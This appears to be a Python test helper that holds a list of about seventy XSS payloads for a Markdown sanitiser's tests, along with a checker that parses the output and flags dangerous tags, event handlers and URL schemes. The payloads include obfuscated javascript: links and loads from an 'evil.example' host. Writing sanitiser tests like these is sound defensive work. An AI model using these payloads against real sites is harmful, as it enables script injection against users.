"""XSS payloads and a checker, shared by the Markdown helper's tests and the page tests.

The payloads cover raw HTML, event handlers, dangerous URL schemes (plain, mixed case, entity- and
whitespace-obfuscated), SVG and MathML, styles, embedded frames and objects, comments, and every
Markdown form of a link. `assert_no_xss` parses HTML the way a browser tokenises it and fails on
any element, attribute or URL that could run script.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

XSS_PAYLOADS: list[str] = [
    # Raw HTML
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    '"><script>alert(1)</script>',
    "</p><script>alert(1)</script><p>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # Event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "<video><source onerror=alert(1)></video>",
    # Dangerous schemes in HTML links
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">x</math>',
    # Styles
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<style>body{background:url('javascript:alert(1)')}</style>",
    '<div style="width: expression(alert(1))">x</div>',
    # Frames, objects, embeds, forms, base and meta
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><button>Sign in</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # Comments and CDATA
    "<!--<script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    # Markdown links and images
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](  javascript:alert(1)  )",
    "[click](java&#09;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[click](https://ok.example "title" onclick="alert(1)")',
    '[click](https://ok.example"onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    '![x](https://ok.example/x.png"onerror="alert(1))',
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    # Autolinks and reference links
    "<javascript:alert(1)>",
    "<JavaScript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[click][evil]\n\n[evil]: javascript:alert(1)",
    "[click][evil]\n\n[evil]: &#106;avascript:alert(1)",
    '[click][evil]\n\n[evil]: https://ok.example "x" onclick="alert(1)"',
    # Markdown wrapped around HTML
    "**<img src=x onerror=alert(1)>**",
    "> <script>alert(1)</script>",
    "- <iframe src=https://evil.example></iframe>",
    "`<script>` and <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
]

SAFE_SCHEMES = {"http", "https", "mailto"}
DANGEROUS_TAGS = {
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "svg",
    "math",
    "img",
    "video",
    "audio",
    "source",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "base",
    "meta",
    "link",
    "noscript",
    "template",
    "details",
    "body",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "poster"}
_INVISIBLE = re.compile(r"[\x00-\x20\x7f]+")


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def parse(fragment: str) -> _Collector:
    collector = _Collector()
    collector.feed(fragment)
    collector.close()
    return collector


def xss_problems(fragment: str, *, allowed_tags: set[str] | None = None) -> list[str]:
    """Everything in `fragment` that could run script; empty when it is safe."""
    problems: list[str] = []
    collected = parse(fragment)
    if collected.comments:
        problems.append(f"comment survived: {collected.comments}")
    for tag, attrs in collected.elements:
        if tag in DANGEROUS_TAGS or (allowed_tags is not None and tag not in allowed_tags):
            problems.append(f"element <{tag}> survived")
        for name, value in attrs:
            if name.startswith("on"):
                problems.append(f"event handler {name} on <{tag}>")
            if name in {"style", "srcdoc", "formaction"}:
                problems.append(f"attribute {name} on <{tag}>")
            if name in URL_ATTRIBUTES and value is not None:
                url = _INVISIBLE.sub("", html.unescape(value)).lower()
                scheme = urlsplit(url).scheme
                if scheme and scheme not in SAFE_SCHEMES:
                    problems.append(f"{name}={value!r} on <{tag}> has scheme {scheme}")
    return problems


def assert_no_xss(fragment: str, *, allowed_tags: set[str] | None = None) -> None:
    problems = xss_problems(fragment, allowed_tags=allowed_tags)
    assert not problems, f"{problems} in {fragment!r}"
